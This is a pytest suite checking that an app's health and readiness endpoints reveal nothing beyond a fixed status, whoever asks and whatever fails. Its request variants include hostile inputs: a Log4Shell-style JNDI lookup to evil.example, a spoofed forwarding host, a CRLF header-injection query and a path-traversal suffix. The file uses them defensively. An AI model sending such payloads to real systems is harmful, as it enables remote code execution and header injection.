"""B87: who asks whether the app is well learns that and nothing else, whoever asks and however."""

from __future__ import annotations

from contextlib import ExitStack

import pytest
from deployment import ADMIN_KEY, Deployment, settings
from fault_proxy import FaultProxy, hanging, healthy, refusing

from devserver.backing import connection_string

#: Names of headers that may come; the values of none depend on who asks or on what is wrong.
HEADERS = {
    "cache-control",
    "content-length",
    "content-type",
    "date",
    "retry-after",
    "x-content-type-options",
}
UNAVAILABLE = {
    "type": "about:blank",
    "title": "Service Unavailable",
    "status": 503,
    "detail": "The stores do not answer.",
}
ASKING = {
    "plainly": {},
    "with a key": {"X-Api-Key": ADMIN_KEY},
    "for details": {"Accept": "text/html", "X-Debug": "1", "Cookie": "debug=1"},
    "from afar": {"X-Forwarded-For": "203.0.113.9", "X-Forwarded-Host": "evil.example"},
    "hostile": {"User-Agent": "${jndi:ldap://evil.example}", "Range": "bytes=0-0"},
}
PATHS = ["", "?verbose=1", "?detail=true&secret=x", "?%0d%0aSet-Cookie:x=1"]


class Clinic:
    """A deployment whose tables can be made to fail."""

    def __init__(self, azurite, spill, stack):
        blob, queue, table = azurite.ports
        self.tables = stack.enter_context(FaultProxy(table))
        data = connection_string((blob, queue, self.tables.port))
        environment = settings(data, ENGAGEMENT_SPILL_FOLDER=str(spill))
        self.deployment = stack.enter_context(Deployment(environment))

    def ask(self, path, **headers):
        """Ask without an address or a browser of one's own."""
        return self.deployment.http.get(self.deployment.url + path, headers=headers)

    def let(self, fault):
        """Let the tables fail, and the time pass for which an answer is remembered."""
        self.tables.fault = fault
        self.deployment.services.ready.__self__.asked_at = float("-inf")


@pytest.fixture(scope="module")
def clinic(azurite, tmp_path_factory):
    """A deployment of these tests."""
    with ExitStack() as stack:
        yield Clinic(azurite, tmp_path_factory.mktemp("spill"), stack)


@pytest.mark.parametrize("how", ASKING)
@pytest.mark.parametrize("query", PATHS)
def test_B87_a_healthy_app_says_so_and_nothing_else(clinic, how, query):
    clinic.let(healthy)
    for path in ("/healthz", "/readyz"):
        answer = clinic.ask(path + query, **ASKING[how])
        assert (answer.status_code, answer.json()) == (200, {"status": "ok"})
        assert {name.lower() for name in answer.headers} <= HEADERS


@pytest.mark.parametrize(
    ("fault", "how"),
    [
        *((refusing(status), how) for status in (403, 503) for how in ASKING),
        (hanging, "plainly"),
    ],
)
def test_B87_whatever_is_wrong_with_the_stores_is_told_in_the_same_words(clinic, fault, how):
    clinic.let(fault)
    answer = clinic.ask("/readyz", **ASKING[how])
    assert (answer.status_code, answer.json()) == (503, UNAVAILABLE)
    assert {name.lower() for name in answer.headers} <= HEADERS
    assert clinic.ask("/healthz", **ASKING[how]).json() == {"status": "ok"}


@pytest.mark.parametrize("path", ["/healthz", "/readyz"])
def test_B87_only_reading_is_answered_and_nothing_lies_below(clinic, path):
    clinic.let(healthy)
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        answer = clinic.deployment.http.request(method, clinic.deployment.url + path, json={})
        assert (answer.status_code, answer.content) in [(404, b""), (405, b"")]
    for below in ("/", "/env", "/../healthz/x"):
        assert clinic.ask(path + below).status_code in (200, 404)
    head = clinic.deployment.http.head(clinic.deployment.url + path)
    assert (head.status_code, head.content) == (200, b"")
